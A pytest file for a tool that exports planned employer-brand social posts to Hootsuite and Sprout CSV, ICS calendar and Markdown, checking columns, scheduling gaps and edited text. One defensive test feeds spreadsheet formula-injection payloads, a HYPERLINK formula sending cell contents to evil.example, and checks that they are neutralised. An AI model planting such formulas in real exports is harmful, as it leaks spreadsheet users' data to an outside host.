"""Tests the calendar exports: each file parses back with the columns its tool expects."""

from __future__ import annotations

import csv
from datetime import date, datetime, timedelta

import pytest
from icalendar import Calendar

from ranking.brand.exports import HOOTSUITE_MAX_ROWS, export_ideas, render_markdown
from ranking.brand.ideas import Idea
from ranking.brand.service import build_insights, plan_ideas

MONDAY = date(2026, 11, 30)


@pytest.fixture
def planned(market_store, brand_config, now):
    return plan_ideas(build_insights(market_store, brand_config, now=now), weeks=4, start=MONDAY)


def _rows(path):
    with path.open(newline="", encoding="utf-8") as fh:
        reader = csv.DictReader(fh)
        return reader.fieldnames, list(reader)


def test_hootsuite_csv_one_file_per_platform(planned, tmp_path):
    paths = export_ideas(planned, "hootsuite", tmp_path / "posts.csv")
    platforms = {i.platform for i in planned}
    assert sorted(p.name for p in paths) == sorted(f"posts.{p}.csv" for p in platforms)
    total = 0
    for path in paths:
        fields, rows = _rows(path)
        assert fields == ["date time", "message", "link"]
        for row in rows:
            when = datetime.strptime(row["date time"], "%m/%d/%Y %H:%M")
            assert when.minute % 5 == 0
            assert row["message"] in {i.text for i in planned}
            assert row["link"] == "" or row["link"].startswith("https://")
        total += len(rows)
    assert total == len(planned)


def test_hootsuite_row_limit_splits_files(tmp_path):
    start = datetime(2027, 1, 4, 9, 0)
    ideas = [Idea(angle="role", role="r", platform="x", lang="en", draft=f"Post number {n}", hashtags=[], evidence=[],
                  subject=f"s{n}", priority=1.0, suggested_for=start + timedelta(hours=n)) for n in range(HOOTSUITE_MAX_ROWS + 5)]
    paths = export_ideas(ideas, "hootsuite", tmp_path / "bulk.csv")
    assert [p.name for p in paths] == ["bulk.csv", "bulk-2.csv"]
    assert len(_rows(paths[0])[1]) == 350 and len(_rows(paths[1])[1]) == 5


def test_sprout_csv_columns_and_ten_minute_gap(planned, tmp_path):
    for idea in planned:  # squeeze everything onto one morning: the export must pull posts apart
        idea.suggested_for = datetime(2026, 12, 1, 9, 0)
    paths = export_ideas(planned, "sprout", tmp_path / "sprout.csv")
    for path in paths:
        fields, rows = _rows(path)
        assert fields == ["date", "time_24hr", "message_text"]
        times = [datetime.strptime(f"{r['date']} {r['time_24hr']}", "%m/%d/%Y %H:%M") for r in rows]
        assert times == sorted(times)
        assert all(b - a >= timedelta(minutes=10) for a, b in zip(times, times[1:]))
        assert all(r["message_text"] for r in rows)


def test_ics_parses_with_icalendar(planned, tmp_path):
    [path] = export_ideas(planned, "ics", tmp_path / "brand.ics", company="Acme")
    cal = Calendar.from_ical(path.read_bytes())
    events = list(cal.walk("VEVENT"))
    assert len(events) == len(planned)
    by_uid = {str(e["UID"]): e for e in events}
    for idea in planned:
        event = by_uid[f"{idea.key}@sourcing"]
        assert event.decoded("DTSTART") == idea.suggested_for
        assert event.decoded("DTEND") - event.decoded("DTSTART") == timedelta(minutes=15)
        description = str(event["DESCRIPTION"])
        assert idea.text in description and "Evidence:" in description
        assert idea.role in str(event["SUMMARY"])


def test_markdown_has_every_post_with_evidence(planned, tmp_path):
    [path] = export_ideas(planned, "md", tmp_path / "brand.md", company="Acme")
    text = path.read_text(encoding="utf-8")
    assert text.startswith("# Acme employer-brand calendar")
    assert "## Week of 2026-11-30" in text
    assert text.count("Evidence:") == len(planned)
    for idea in planned:
        assert idea.draft.splitlines()[0] in text


def test_edited_text_is_what_gets_exported(planned, tmp_path):
    planned[0].edited_text = "Our own words, lightly edited."
    paths = export_ideas(planned[:1], "sprout", tmp_path / "one.csv")
    assert _rows(paths[0])[1][0]["message_text"] == "Our own words, lightly edited."


def test_unknown_format_and_undated_ideas_are_refused(planned, tmp_path):
    with pytest.raises(ValueError, match="export format must be one of"):
        export_ideas(planned, "pdf", tmp_path / "x.pdf")
    planned[0].suggested_for = None
    with pytest.raises(ValueError, match="1 idea\\(s\\) have no date"):
        export_ideas(planned, "md", tmp_path / "x.md")
    assert render_markdown([i for i in planned if i.suggested_for]).startswith("# Employer-brand calendar")


@pytest.mark.parametrize("fmt, column", [("hootsuite", "message"), ("sprout", "message_text")])
def test_brand_csv_formula_text_is_inert(tmp_path, fmt, column):
    """Post text comes from other companies' postings: a formula in it must not run in a spreadsheet.

    Mutant caught: writing `idea.text` instead of `neutralise(idea.text)` in
    `export_hootsuite` / `export_sprout` leaves `=HYPERLINK(...)` live in the file.
    """
    from sourcing.exports import FORMULA_PREFIXES

    start = datetime(2027, 1, 4, 9, 0)
    texts = [p + 'HYPERLINK("http://evil.example/?x="&A1,"Apply")' for p in FORMULA_PREFIXES] + ["Plain post, a=b"]
    ideas = [Idea(angle="role", role="r", platform="x", lang="en", draft=text, hashtags=[], evidence=[], subject=f"s{n}",
                  priority=1.0, suggested_for=start + timedelta(hours=n)) for n, text in enumerate(texts)]
    ideas[0].edited_text = "=1+1 edited"  # what is posted is the edited text: that one is neutralised too
    (path,) = export_ideas(ideas, fmt, tmp_path / "posts.csv")
    written = [row[column] for row in _rows(path)[1]]
    assert written == ["'=1+1 edited", *("'" + t for t in texts[1:-1]), "Plain post, a=b"]
